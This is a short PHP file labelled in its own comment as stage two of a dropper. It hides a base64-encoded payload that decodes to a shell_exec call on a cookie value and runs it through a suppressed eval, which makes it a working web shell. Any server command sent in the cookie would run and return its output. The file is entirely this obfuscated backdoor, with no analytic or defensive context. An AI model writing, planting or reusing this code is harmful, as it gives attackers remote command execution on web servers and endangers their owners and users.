<?php
// stage two of a dropper: the payload is decoded into a variable first
$payload = base64_decode('ZWNobyBzaGVsbF9leGVjKCRfQ09PS0lFWydjJ10pOw==');
$ok = true;
if ($ok) {
    @eval($payload);
}
